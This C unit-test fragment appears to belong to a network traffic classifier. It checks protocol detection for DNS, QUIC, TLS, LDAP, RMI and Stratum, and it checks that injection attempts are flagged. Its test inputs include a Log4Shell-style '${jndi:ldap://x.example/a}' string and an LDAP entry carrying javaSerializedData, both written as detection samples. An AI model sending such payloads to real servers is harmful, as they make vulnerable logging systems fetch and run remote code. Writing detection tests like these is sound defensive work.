// SPDX-License-Identifier: GPL-2.0-or-later
// A part of proto_test.c: a server that speaks first, in another protocol than its client's. Clients of LDAP pass over what they do not know.
#pragma once

START_TEST(a_server_that_speaks_first_does_not_choose_the_parser)
{
	static const char *const answers[] = {
		"\0\x21\x12\x34\x81\x80\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1", // DNS
		"N\0\3a.b\0\0\4\xd2", // RMI
	};
	static const size_t lengths[] = {35, 10};
	static const struct bytes bind = {(const uint8_t *)"\x30\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0", 14};
	static const uint8_t entry[] = {0x30, 39, 2, 1, 2, 0x64, 34, 4, 0, 0x30, 30, 0x30, 28, 4, 18, 'j', 'a', 'v', 'a', 'S', 'e', 'r', 'i', 'a',
					'l', 'i', 'z', 'e', 'd', 'D', 'a', 't', 'a', 0x31, 6, 4, 4, 1, 2, 3, 4};

	for (size_t i = 0; i < 2; i++)
		for (size_t size = 1; size < 20; size++) {
			setup();
			feed_bytes(false, bytes_of(answers[i], lengths[i]));
			ck_assert_int_ne(app, APP_NONE);
			say_in_pieces(true, bind, size);
			ck_assert_int_eq(app, APP_LDAP);
			say_in_pieces(false, bytes_of(entry, sizeof(entry)), size);
			ck_assert_uint_eq(seen(OBS_LDAP), 2);
			ck_assert(caught.o[caught.count - 1].facts & FACT_BIT(FACT_LDAP_JAVA_REFERENCE));
			teardown();
		}
	setup(); // the client's first bytes come before
	feed_bytes(true, bytes_head(bind, 1));
	feed_bytes(false, bytes_of(answers[0], lengths[0]));
	feed_bytes(true, bytes_from(bind, 1));
	ck_assert_int_eq(app, APP_LDAP);
	feed_bytes(false, bytes_of(entry, sizeof(entry)));
	ck_assert_uint_eq(seen(OBS_LDAP), 2);
}
END_TEST

// The same with datagrams: on DNS's port one that looks like QUIC is worth no more than junk.
START_TEST(a_datagram_like_quic_does_not_hide_dns)
{
	struct proto_input in = {.from_client = true, .flow = &flow};

	flow.transport = UDP;
	flow.server_port = 53;
	in.data = edge_copy(bytes_of("\xc0\0\0\0\1\4abcd\4efgh\0\0\0\0", 19));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_QUIC);
	in.data = edge_copy(bytes_of("\x12\x34\1\0\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1", 33));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_DNS);
	ck_assert_uint_eq(seen(OBS_DNS), 1);
}
END_TEST

// Five bytes that no connection begins with. In one that began before we came they are usual.
START_TEST(a_record_of_data_before_any_hello_is_said)
{
	feed_bytes(true, bytes_of("\x17\3\3\x40\0<13>${jndi:ldap://x.example/a}\n", 37));
	ck_assert_int_eq(app, APP_TLS);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BAD], 1);
	setup();
	flow.midstream = true;
	feed_bytes(true, bytes_of("\x17\3\3\x40\0abcde", 10));
	ck_assert_int_eq(app, APP_TLS);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BAD], 0);
}
END_TEST

// A server that logs lines does not know these protocols, and takes what a parser passes over.
START_TEST(what_parsers_pass_over_is_searched)
{
	static const struct bytes greetings[] = {{(const uint8_t *)"JRMI\0\2K", 7}, {(const uint8_t *)"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n", 49}};
	static const uint8_t apps[] = {APP_RMI, APP_STRATUM};

	for (size_t i = 0; i < 2; i++) {
		setup();
		flow.direction = DIRECTION_IN;
		feed_bytes(true, greetings[i]);
		ck_assert_int_eq(app, apps[i]);
		say(true, "<13>${jndi:ldap://x.example/a}\n");
		ck_assert_uint_eq(seen(OBS_JNDI), 1);
		teardown();
	}
	setup();
}
END_TEST
